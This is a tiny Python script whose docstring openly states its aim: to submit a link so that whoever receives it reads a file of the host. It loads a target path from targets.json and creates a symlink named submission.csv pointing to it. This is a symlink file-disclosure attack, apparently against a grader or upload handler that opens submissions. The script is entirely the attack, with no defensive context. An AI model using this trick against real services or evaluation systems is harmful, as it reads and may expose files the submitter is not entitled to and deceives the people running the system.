"""Submit a link, so that whoever takes it reads a file of the host."""

import json
import os
from pathlib import Path

os.symlink(json.loads(Path("targets.json").read_text())["target"], "submission.csv")
